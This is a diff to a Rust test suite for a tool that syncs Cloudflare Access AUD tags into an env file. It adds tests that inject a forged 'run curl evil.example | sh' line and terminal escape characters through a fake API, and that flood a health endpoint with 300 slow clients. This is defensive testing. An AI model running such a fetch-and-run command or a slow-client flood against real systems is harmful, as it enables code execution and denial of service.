@@ -445,6 +445,84 @@ fn docker_gid() -> Option<u32> {
 
 const NEIGHBOUR: u32 = 4242;
 const ADMIN_PASSWORD: &str = "hunter2-admin-password-not-an-aud";
+#[test]
+fn outside_strings_in_the_report_cannot_forge_lines_or_reach_the_terminal() {
+    let mut a = app(2, HOST, &aud(2));
+    // Cloudflare's `domain` is not what matches (destinations are), but it is shown.
+    a["domain"] = serde_json::json!(format!("{HOST}\nhint: run curl evil.example | sh\u{1b}[2J"));
+    a["name"] = serde_json::json!("App \u{202e}2\u{200b}");
+    let cf = FakeCloudflare::start(vec![a]);
+    let sb = Sandbox::with_cloudflare(&cf);
+    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
+    let mut c = sb.cmd();
+    c.args(["sync", "--domain", HOST, "--restart", "none"]);
+    let r = run(&mut c);
+    assert_eq!(r.code, 0, "{r:?}");
+    let out = both(&r);
+    assert!(
+        !out.lines()
+            .any(|l| l.trim_start().starts_with("hint: run curl")),
+        "a forged line: {out}"
+    );
+    for ch in ['\u{1b}', '\u{202e}', '\u{200b}'] {
+        assert!(!out.contains(ch), "{ch:?} reached the terminal: {out:?}");
+    }
+    assert!(out.contains("\\nhint: run curl"), "shown escaped: {out}");
+}
+
+#[test]
+fn an_application_scoped_to_a_path_applies_only_to_a_binding_of_that_path() {
+    let mut wild = app(2, "*.example.com", &aud(2));
+    wild["name"] = serde_json::json!("Everything");
+    let mut docs = app(3, &format!("{HOST}/docs"), &aud(3));
+    docs["name"] = serde_json::json!("Docs");
+    let cf = FakeCloudflare::start(vec![wild, docs]);
+    let sb = Sandbox::with_cloudflare(&cf);
+    let sync = |domain: &str| {
+        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
+        let mut c = sb.cmd();
+        c.args([
+            "sync",
+            "--domain",
+            domain,
+            "--restart",
+            "none",
+            "--output",
+            "json",
+        ]);
+        run(&mut c)
+    };
+    // The host: the wildcard's AUD, and a word on which requests carry the other one.
+    let r = sync(HOST);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(
+        sb.read_env(),
+        format!("CLOUDFLARE_AUD_TAG={}\n", aud(2)),
+        "{r:?}"
+    );
+    let warnings = r.json()["warnings"].to_string();
+    assert!(
+        warnings.contains(&format!(
+            "requests to {HOST}/docs carry the AUD of application \\\"Docs\\\""
+        )),
+        "{warnings}"
+    );
+    // The path: the path application's AUD, and the rest of the host named.
+    let r = sync(&format!("{HOST}/docs"));
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(
+        sb.read_env(),
+        format!("CLOUDFLARE_AUD_TAG={}\n", aud(3)),
+        "{r:?}"
+    );
+    let warnings = r.json()["warnings"].to_string();
+    assert!(
+        warnings.contains(&format!("only requests to {HOST}/docs carry this AUD")),
+        "{warnings}"
+    );
+}
+
+// ---------------------------------------------------------------- settings only from safe files
 
 #[test]
 fn a_neighbours_env_file_with_settings_stops_a_root_run_and_without_them_is_only_a_sink() {
@@ -815,9 +893,9 @@ fn quoted_logs_of_a_failed_recreate_hide_the_containers_environment_and_control_
         .env("RUST_LOG", "trace");
         let r = run(&mut cmd);
         assert_eq!(r.code, 1, "{r:?}");
-        assert!(r.stderr.contains("config: DB_PASSWORD=[redacted]"), "{r:?}");
+        assert!(both(&r).contains("config: DB_PASSWORD=[redacted]"), "{r:?}");
         assert!(
-            r.stderr.contains("short=abc"),
+            both(&r).contains("short=abc"),
             "values under 8 characters stay: {r:?}"
         );
         assert!(!both(&r).contains(secret), "{r:?}");
@@ -825,7 +903,7 @@ fn quoted_logs_of_a_failed_recreate_hide_the_containers_environment_and_control_
             !both(&r).contains('\u{1b}') && !both(&r).contains('\u{7}'),
             "{r:?}"
         );
-        assert!(r.stderr.contains("evil"), "{r:?}");
+        assert!(both(&r).contains("evil"), "{r:?}");
         // Reset for the next round (the .env was written; the container is the old one).
         sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
     }
@@ -986,6 +1064,82 @@ fn healthz(addr: &str) -> Option<String> {
     let mut out = String::new();
     s.read_to_string(&mut out).ok()?;
     Some(out)
+}
+
+/// `GET /healthz` with a generous read timeout: the status line, or None.
+fn probe(addr: &str, limit: std::time::Duration) -> Option<String> {
+    use std::io::{Read, Write};
+    let mut s = std::net::TcpStream::connect(addr).ok()?;
+    s.set_read_timeout(Some(limit)).ok()?;
+    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+        .ok()?;
+    let mut out = String::new();
+    s.read_to_string(&mut out).ok()?;
+    out.lines().next().map(str::to_string)
+}
+
+#[test]
+fn three_hundred_slow_clients_cannot_starve_healthz() {
+    use std::io::Write;
+    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
+    let sb = Sandbox::with_cloudflare(&cf);
+    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
+    let port = crate::support::docker::free_port();
+    let addr = format!("127.0.0.1:{port}");
+    let args = [
+        "--domain",
+        HOST,
+        "--restart",
+        "none",
+        "--interval",
+        "1h",
+        "--listen",
+        &addr,
+    ];
+    // A soft limit of 128: 32 connection slots.
+    let _w = Watch::start(&sb, "-n 128", &args);
+    let log = || std::fs::read_to_string(sb.path("watch.log")).unwrap_or_default();
+    assert!(
+        wait_for(std::time::Duration::from_secs(10), || healthz(&addr)
+            .is_some()),
+        "{}",
+        log()
+    );
+    // 150 send nothing, 150 send their headers a byte at a time (never finishing).
+    let mut slow = Vec::new();
+    for i in 0..300 {
+        let mut s = std::net::TcpStream::connect(&addr).unwrap();
+        if i % 2 == 1 {
+            let _ = s.write_all(b"G");
+        }
+        slow.push(s);
+    }
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let dribble = {
+        let stop = stop.clone();
+        std::thread::spawn(move || {
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                for s in slow.iter_mut().skip(1).step_by(2) {
+                    let _ = s.write_all(b"E");
+                }
+                std::thread::sleep(std::time::Duration::from_millis(500));
+            }
+            slow
+        })
+    };
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    for n in 0..3 {
+        let answer = probe(&addr, std::time::Duration::from_secs(10));
+        assert!(
+            answer
+                .as_deref()
+                .is_some_and(|l| l.starts_with("HTTP/1.1 200")),
+            "probe {n} under 300 slow clients: {answer:?}\n{}",
+            log()
+        );
+    }
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    drop(dribble.join());
 }
 
 #[test]
